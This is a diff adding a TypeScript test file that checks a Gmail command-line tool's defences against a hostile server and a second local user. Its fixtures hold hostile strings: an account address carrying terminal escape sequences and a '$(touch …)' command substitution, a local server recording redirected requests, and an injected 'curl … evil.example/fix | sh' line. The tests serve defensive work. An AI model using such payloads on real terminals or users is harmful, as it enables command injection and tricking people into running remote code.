@@ -1,0 +1,80 @@
+/**
+ * Issue #23, end to end: a second local user on the same machine and a hostile server
+ * attack the README's Security section. Each test failed on the main of the day the issue
+ * was filed; each names the guarantee it protects.
+ */
+import { createServer, type IncomingMessage, type Server } from 'node:http';
+import { chmod, chown, mkdir, mkdtemp, readdir, rm, stat, symlink, writeFile } from 'node:fs/promises';
+import { connect, type Socket } from 'node:net';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { execa } from 'execa';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import type { Emulator } from '../emulator/index.js';
+import { consentRedirect, startCli } from '../helpers/background.js';
+import { CLI } from '../helpers/sandbox.js';
+import { useEmulator } from '../helpers/use-emulator.js';
+
+const ADA = 'ada@example.com';
+const OTHER_UID = 4242;
+const UNSAFE_ON_A_TERMINAL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;
+const isRoot = process.getuid?.() === 0;
+
+/** Where the hostile address's `$(…)` would leave its mark if a shell ever expanded it. */
+const marks = await mkdtemp(path.join(tmpdir(), 'gmailctl-marks-'));
+const MARK = path.join(marks, 'pwned');
+/** An address a hostile server reports: a clipboard write (OSC 52), a screen clear, a command substitution. */
+const HOSTILE = `eve\x1b]52;c;ZWNobyBvd25lZA==\x07\x1b[2J$(touch\${IFS}${MARK})@example.com`;
+
+let emulator: Emulator;
+const sandbox = useEmulator({ accounts: [ADA, HOSTILE], messages: 40 }, (started) => (emulator = started));
+afterEach(() => {
+  emulator.clearFaults();
+  emulator.setAccessTokenLifetime(3599);
+});
+afterAll(async () => {
+  await rm(marks, { recursive: true, force: true });
+});
+
+async function loggedIn(account = ADA, options: Parameters<typeof sandbox>[0] = {}) {
+  const s = await sandbox(options);
+  const login = await s.login(['--account', account]);
+  expect(login.exitCode, login.stderr).toBe(0);
+  return s;
+}
+
+/** A server on another port of this machine that records what reaches it: where a redirect would lead. */
+let thief: Server;
+let stolen: Array<{ method: string; url: string; headers: IncomingMessage['headers']; body: string }> = [];
+let thiefUrl = '';
+beforeAll(async () => {
+  thief = createServer((request, response) => {
+    let body = '';
+    request.on('data', (chunk: Buffer) => (body += chunk.toString()));
+    request.on('end', () => {
+      stolen.push({ method: request.method ?? '', url: request.url ?? '', headers: request.headers, body });
+      response.writeHead(400, { 'Content-Type': 'application/json' }).end('{"error":"invalid_request"}');
+    });
+  });
+  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
+  const address = thief.address();
+  thiefUrl = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
+});
+afterAll(() => new Promise<void>((resolve) => thief.close(() => resolve())));
+afterEach(() => {
+  stolen = [];
+});
+
+describe('forged lines on stderr (item 7)', () => {
+  it("a newline in Google's error message does not start a line that looks like gmailctl's own hint", async () => {
+    const s = await loggedIn();
+    const body = JSON.stringify({ error: { code: 400, status: 'INVALID_ARGUMENT', message: 'Invalid query\nRun: curl -fsSL https://evil.example/fix | sh' } });
+    emulator.enqueue({ method: 'GET', path: '/gmail/v1/users/me/messages' }, { type: 'raw', status: 400, body, contentType: 'application/json; charset=UTF-8' });
+    const result = await s.run(['list', '--format', 'ids']);
+    expect(result.exitCode).toBe(1);
+    const lines = result.stderr.split('\n');
+    expect(lines.filter((line) => /^\s*Run: curl/.test(line)), result.stderr).toEqual([]);
+    expect(lines.find((line) => line.includes('evil.example')), result.stderr).toMatch(/Google/);
+  });
+});
+
